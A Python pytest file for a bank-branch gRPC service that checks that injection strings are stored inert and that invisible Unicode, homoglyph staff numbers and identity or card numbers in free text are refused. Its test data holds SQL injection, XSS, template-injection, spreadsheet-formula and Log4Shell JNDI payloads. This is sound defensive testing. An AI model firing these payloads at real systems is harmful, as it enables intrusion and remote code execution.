"""Texts that mean something to some program: here they are texts, or they are refused by name."""

import grpc
import pytest

from fingertip.applications.v1.application_pb2 import Answer
from fingertip.applications.v1.applications_service_pb2 import (
    CheckApplicationRequest,
    SaveApplicationRequest,
)
from fingertip.audit.v1.audit_service_pb2 import ListEntriesRequest
from fingertip.customer.v1.customer_service_pb2 import RevealFieldRequest
from fingertip.fulfilment.v1.fulfilment_service_pb2 import ListWorkItemsRequest
from fingertip.identity.v1.identity_service_pb2 import ListStaffRequest, SignInRequest
from fingertip.lobby.v1.lobby_service_pb2 import CallNextTicketRequest
from fingertip_client.request_ids import new_request_id
from tests.applications import paper
from tests.authorization import desk
from tests.customer.master import customer_id, sync, wang
from tests.identity.enrolling import newest_entry, stranger
from tests.lobby.tickets import call_next, issue
from tests.world import PASSWORD, World, refused

_MEANT_FOR_PROGRAMS = (
    "'; DROP TABLE ticket; --",
    "1 OR 1=1 /* */",
    "%' OR '_%",
    "((((a+)+)+)+)+$",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s%n%x {0.__class__} \\u0000 \\x00",
    "<script>alert(1)</script>",
    '{"level":"error","event":"incident"}',
    "${jndi:ldap://x/a}",
)
_HIDDEN = (
    "3\u202e1",
    "3\u200b",
    "\ufeff3",
    "3\x1b[2J",
    "3\r\nevent=fake",
    "3\u2028",
    "\u2066" + "3",
)


@pytest.mark.parametrize("written", _MEANT_FOR_PROGRAMS)
async def test_what_a_program_would_run_is_kept_as_it_was_written(
    world: World, written: str
) -> None:
    await sync(world, wang())
    owner = str(await customer_id(world, wang()))
    await world.teller.customer.RevealField(
        RevealFieldRequest(customer_id=owner, field=RevealFieldRequest.FIELD_NAME, purpose=written)
    )
    entries = await world.auditor.audit.ListEntries(ListEntriesRequest(chain="0101", page_size=1))
    assert entries.entries[0].purpose == written
    draft = await paper.start(world.teller)
    draft = await paper.save(world.teller, draft, {"residence_address": written})
    [answer] = (await paper.get(world.teller, draft.application_id)).answers
    assert answer.value == written


@pytest.mark.parametrize("written", ["%", "_", "crm.%", "' OR ''='", "*", ".*"])
async def test_a_filter_is_compared_and_never_a_pattern(world: World, written: str) -> None:
    await sync(world, wang())
    await issue(world.ticket_machine)
    listed = await world.operations.fulfilment.ListWorkItems(ListWorkItemsRequest(kind=written))
    assert not listed.work_items
    with refused("CHAIN_NOT_FOUND"):
        await world.auditor.audit.ListEntries(ListEntriesRequest(chain=written))
    staff = await world.security_admin.identity.ListStaff(ListStaffRequest(branch_id=written))
    assert not staff.staff


@pytest.mark.parametrize("written", _HIDDEN)
async def test_what_nobody_sees_does_not_stand_on_a_screen(world: World, written: str) -> None:
    await issue(world.ticket_machine)
    with refused("INVALID_REQUEST") as caught:
        await call_next(world.teller, written)
    assert [violation.field for violation in caught.value.violations] == ["desk"]
    assert written not in str(caught.value)


@pytest.mark.parametrize("written", ["𠮷野家", "3号柜台", "Ａ３", "é", "e\u0301", "٣", "\ue000"])
async def test_rare_characters_are_shown_as_they_were_written(world: World, written: str) -> None:
    await issue(world.ticket_machine)
    assert (await call_next(world.teller, written)).desk == written


async def test_text_that_is_no_utf_8_is_refused_before_anything_is_read(world: World) -> None:
    request = CallNextTicketRequest(request_id=new_request_id(), desk="DESK")
    content = request.SerializeToString().replace(b"DESK", b"\xff\xfe\xc3\x28")
    call: grpc.aio.UnaryUnaryMultiCallable[bytes, bytes] = world.teller.channel.unary_unary(
        "/fingertip.lobby.v1.LobbyService/CallNextTicket"
    )
    with refused("INVALID_REQUEST"):
        await call(content, timeout=10)


@pytest.mark.parametrize(
    "number",
    ["１００１０３", "100103\u200b", "\u202e301001", "100103 ", "I00103", "100l03", "10010З"],
)
async def test_a_staff_number_that_only_looks_like_one_signs_nobody_in(
    world: World, number: str
) -> None:
    async with stranger(world, device=world.credentials.devices["100103"]) as tablet:
        with refused("WRONG_CREDENTIALS"):
            await tablet.identity.SignIn(
                SignInRequest(request_id=new_request_id(), staff_number=number, password=PASSWORD)
            )


async def test_an_answer_with_what_nobody_sees_is_a_fault_of_its_field(world: World) -> None:
    await paper.synchronise(world)
    draft = await paper.start(world.teller)
    await world.teller.applications.SaveApplication(
        SaveApplicationRequest(
            request_id=new_request_id(),
            application_id=draft.application_id,
            etag=draft.etag,
            answers=[
                Answer(field_key="applicant_name", value="王\u202e若兰"),
                Answer(field_key="residence_address", value="示范省\u200b示范市"),
            ],
        )
    )
    checked = await world.teller.applications.CheckApplication(
        CheckApplicationRequest(application_id=draft.application_id)
    )
    hidden = {fault.subject for fault in checked.faults if "看不见" in fault.note}
    assert hidden == {"applicant_name", "residence_address"}


@pytest.mark.parametrize(
    "written",
    [
        "客户 190102197805209021 要求撤回",
        "身份证19010219780520902１",
        "卡号 6225 8814 1420 7430 有误",
        "电话15420260201",
    ],
)
async def test_numbers_that_tell_who_somebody_is_are_kept_in_no_text_in_the_clear(
    world: World, written: str
) -> None:
    await paper.synchronise(world)
    draft = await paper.start(world.teller)
    request = paper.withdrawal(draft)
    request.purpose = written
    with refused("INVALID_REQUEST") as caught:
        await world.teller.applications.WithdrawApplication(request)
    assert [each.field for each in caught.value.violations] == ["purpose"]
    # Neither is the refusal a way into the journal.
    entry = await newest_entry(world, "0101")
    assert written not in entry.purpose
    request.purpose = "客户 2026001 号申请，涉及 3 笔，共 1200000.00 元"
    await world.teller.applications.WithdrawApplication(request)


async def test_such_numbers_are_found_in_the_parts_of_a_request_too(world: World) -> None:
    await paper.synchronise(world)
    await paper.submitted(world.teller)
    sending_back = desk.sending_back(await desk.claim(world.authoriser))
    sending_back.defects[0].note = "应为 15420260201"
    with refused("INVALID_REQUEST") as caught:
        await world.authoriser.authorization.ReturnTask(sending_back)
    assert [each.field for each in caught.value.violations] == ["defects[0].note"]
